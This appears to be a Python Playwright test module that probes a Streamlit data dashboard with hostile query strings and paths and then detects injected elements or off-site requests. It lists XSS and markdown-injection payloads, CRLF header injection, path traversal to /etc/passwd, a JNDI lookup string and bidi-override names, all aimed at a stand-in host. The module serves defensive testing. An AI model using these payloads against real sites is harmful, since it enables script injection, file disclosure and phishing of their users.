"""Hostile URLs and the checks run after each: what a crafted link may try, on every page.

Kinds (issue 10's probe): Markdown and HTML in the shared filters (the sidebar quotes bad values
back), country codes chained into a link, markup in every page's own URL-bound widgets, sizes
and repetitions, encodings (NUL, CR/LF, bidi overrides, double encoding), reserved widget keys,
and paths (unknown deep paths, traversal, protocol-relative, metrics). Every payload names the
host `ev.io`: an element or a request carrying it means the link got through.
"""

from __future__ import annotations

from urllib.parse import quote

from playwright.sync_api import Page

HOST = "ev.io"
PAGES = ("/", "/trade", "/displacement", "/incidents", "/corridors", "/compare", "/data")

# Values a link may put into any parameter.
PAYLOADS: tuple[str, ...] = (
    f"[x](//{HOST})",
    f"![](//{HOST}/p.png)",
    f"[SIGN IN](https://{HOST}/login)",
    f"<img src=//{HOST}/p.png onerror=window.__pwn=1 class=cam-pwn>",
    "<iframe srcdoc='<script>parent.__pwn=1</script>' class=cam-pwn>",
    f"<a href=//{HOST} class=cam-pwn style=position:fixed;inset:0>x</a>",
    f"www.{HOST}",
    f"https://{HOST}/a",
    f"x@{HOST}",
    ":streamlit: :material/lock: :red[Official]",
    f"$\\href{{//{HOST}}}{{x}}$",
    "<script>window.__pwn=1</script>",
    "javascript:window.__pwn=1",
    "<svg onload=window.__pwn=1 class=cam-pwn>",
    f"<style>@import '//{HOST}/s.css'</style>",
    f"<base href=//{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}'>",
    "# SIGN IN\n\n---",
    "\u202etxt.exe",
)

# Widgets bound to the URL on each page (key -> the page that reads it).
PAGE_PARAMS: dict[str, tuple[str, ...]] = {
    "/": ("layers", "flows", "overview-tables", "cite"),
    "/trade": ("partners", "flow", "measure", "section", "year", "log", "events", "reporter",
               "mirror"),
    "/displacement": ("types", "direction", "section", "year", "log", "events", "per1000"),
    "/incidents": ("type", "border", "casualties", "precision", "view", "per", "events"),
    "/corridors": ("mode", "status", "corridor", "km"),
    "/compare": ("rank",),
    "/data": ("dataset",),
}  # fmt: skip
RESERVED = (
    "dl-trade-csv",
    "page-trade",
    "headline-trade",
    "reset-filters",
    "group-ca5",
    "_cam_url_read",
)


def query(*pairs: tuple[str, str]) -> str:
    return "&".join(f"{quote(k, safe='')}={quote(v, safe='')}" for k, v in pairs)


def shared_filter_queries(page_index: int, count: int = 4) -> list[str]:
    """Markup in the shared filters (the sidebar quotes bad values back): three payloads per
    link, one in each filter, a different slice of the payloads on each page; then codes chained
    into one link."""
    out = []
    for i in range(count):
        first = page_index * count * 3 + i * 3  # 12 payloads a page, all 19 over two pages
        out.append(
            query(
                *(
                    (name, PAYLOADS[(first + n) % len(PAYLOADS)])
                    for n, name in enumerate(("years", "countries", "present"))
                )
            )
        )
    return out + [
        # two codes chained into one link, a quoted fragment each (the probe's "SIGN IN")
        query(("countries", "KAZ"), ("countries", "[SIGN IN]("), ("countries", f"//{HOST})")),
        query(("countries", "![x]("), ("countries", f"//{HOST}/p.png)")),
        query(("years", "[x]("), ("years", f"//{HOST})")),
        query(("years", "2015"), ("years", f"<img src=//{HOST}/y.png>")),
    ]


def page_param_queries(path: str, count: int = 4) -> list[str]:
    """Markup in the page's own URL-bound widgets (Streamlit drops values it does not know): three
    widgets per link, each with its own payload."""
    params = PAGE_PARAMS[path]
    out = []
    for i in range(count):
        slots = (3 * i, 3 * i + 1, 3 * i + 2)
        pairs = {params[k % len(params)]: PAYLOADS[k % len(PAYLOADS)] for k in slots}
        out.append(query(*pairs.items()))
    return out


def abuse_queries() -> list[str]:
    """Sizes, repetitions, encodings, reserved keys: two kinds in each link (they reach
    different parameters, so neither hides the other)."""
    return [
        "countries=" + "A" * 20_000 + "&" + "&".join(f"p{i}={i}" for i in range(800)),
        "&".join(["countries=KAZ"] * 1500) + "&" + query(*((key, "1") for key in RESERVED)),
        query(("countries", "KAZ\x00UZB"), ("years", "2015\r\nSet-Cookie: x=1"))
        + "&countries=%252Fimg%253E%253Cimg%2520src%253D%252F%252Fev.io%253E",
        query(("years", "9" * 5000), ("years", "-1"), ("years", "1e9"), ("present", "1"))
        + "&"
        + query(("countries", f"<img src=//{HOST}/p.png>")),
    ]


def app_queries(path: str) -> list[str]:
    """The hostile queries opened on one page (16, carrying 36 payloads or more)."""
    index = PAGES.index(path)
    return shared_filter_queries(index) + page_param_queries(path) + abuse_queries()


def bad_paths(path: str) -> list[str]:
    """Paths below a page, none of them a page (27): each answers the app's 404 "Page not
    found", or 400 from Streamlit for traversal. They cost a tenth of a page run each."""
    base = path.rstrip("/")
    return [
        f"{base}/extra",
        f"{base}/{quote('<img src=//ev.io/p.png>', safe='')}",
        f"{base}/%2e%2e/%2e%2e/etc/passwd",
        f"{base}/static/x.js",
        f"{base}/x/y/z",
        f"{base}/{quote('[x](//ev.io)', safe='')}",
        f"{base}/_stcore/metrics",
        f"{base}/..%5c..%5cwindows",
        f"{base}/{quote(chr(0x202E) + 'txt.exe', safe='')}",
        f"{base}/{quote('<script>window.__pwn=1</script>', safe='')}",
        f"{base}/{quote('<svg onload=window.__pwn=1>', safe='')}",
        f"{base}/{quote(chr(34) + ' onmouseover=window.__pwn=1 x=' + chr(34), safe='')}",
        f"{base}/%252e%252e%252fetc%252fpasswd",
        f"{base}/{quote('<a href=//ev.io class=cam-pwn>x</a>', safe='')}",
        f"{base}/{'a' * 2000}",
        f"{base}/{quote('javascript:window.__pwn=1', safe='')}",
        f"{base}/{quote('${jndi:ldap://ev.io/a}', safe='')}",
        f"{base}/{quote('www.ev.io', safe='')}/x",
        f"{base}/index.html/x",
        f"{base}/{quote('# SIGN IN', safe='')}",
        f"{base}/{quote(':red[Official]', safe='')}",
        f"{base}/%2F%2Fev.io%2Fx",
        f"{base}/{quote('<style>@import //ev.io/s.css</style>', safe='')}",
        f"{base}/{quote('<iframe src=//ev.io>', safe='')}",
        f"{base}/{quote('![](//ev.io/p.png)', safe='')}",
        f"{base}/%00",
        f"{base}/{quote('<base href=//ev.io/>', safe='')}/x",
    ]


# --- checks -----------------------------------------------------------------------------------

# Live elements a payload could have made: marked ones, any frame, object, base or meta refresh,
# inline event handlers, a URL or style naming the host, links or images to another host.
_INJECTED_JS = """
(host) => {
  const out = [];
  const here = location.host;
  const describe = (e) => e.tagName.toLowerCase() + ' ' + e.outerHTML.slice(0, 160);
  const never = '.cam-pwn, iframe, frame, object, embed, base, meta[http-equiv], '
    + 'script:not([src])';
  const local = (v) => v.startsWith('#') || v.startsWith('data:') || v.startsWith('blob:');
  const offSite = (value) => {
    try {
      const url = new URL(value, location.href);
      return url.host !== here || !['http:', 'https:'].includes(url.protocol);
    } catch (err) { return true; }
  };
  for (const e of document.querySelectorAll('body *')) {
    const attrs = [...e.attributes];
    // text in aria-label or title is inert; a host in these attributes is not
    const live = ['href', 'src', 'srcset', 'srcdoc', 'action', 'formaction', 'xlink:href',
      'style', 'data', 'poster', 'background', 'content'];
    if (e.matches(never) || attrs.some(a => a.name.startsWith('on')
        || (live.includes(a.name) && a.value.toLowerCase().includes(host)))) {
      out.push(describe(e));
      continue;
    }
    const urls = ['href', 'src', 'srcset', 'action', 'formaction', 'xlink:href']
      .map(name => e.getAttribute(name)).filter(v => v && !local(v));
    if (urls.some(offSite)) out.push(describe(e));
  }
  for (const e of document.head.querySelectorAll('base, meta[http-equiv="refresh"]')) {
    out.push(describe(e));
  }
  if (window.__pwn !== undefined) out.push('window.__pwn set: script ran');
  return out;
}
"""

ERROR_BOXES = '[data-testid="stException"], [data-testid="stAlertContentError"]'


def injected_elements(page: Page) -> list[str]:
    return page.evaluate(_INJECTED_JS, HOST)


def error_boxes(page: Page) -> list[str]:
    return [t[:200] for t in page.locator(ERROR_BOXES).all_inner_texts()]


class RequestLog:
    """Every request a page makes to a host other than the app's own."""

    def __init__(self, page: Page, base_url: str) -> None:
        self.own = base_url.split("://", 1)[1].split("/", 1)[0]
        self.off_site: list[str] = []
        page.on("request", self._seen)

    def _seen(self, request) -> None:
        url = request.url
        if url.startswith(("data:", "blob:", "about:")):
            return
        host = url.split("://", 1)[-1].split("/", 1)[0]
        if host != self.own:
            self.off_site.append(url)

    def take(self) -> list[str]:
        seen, self.off_site = self.off_site, []
        return seen
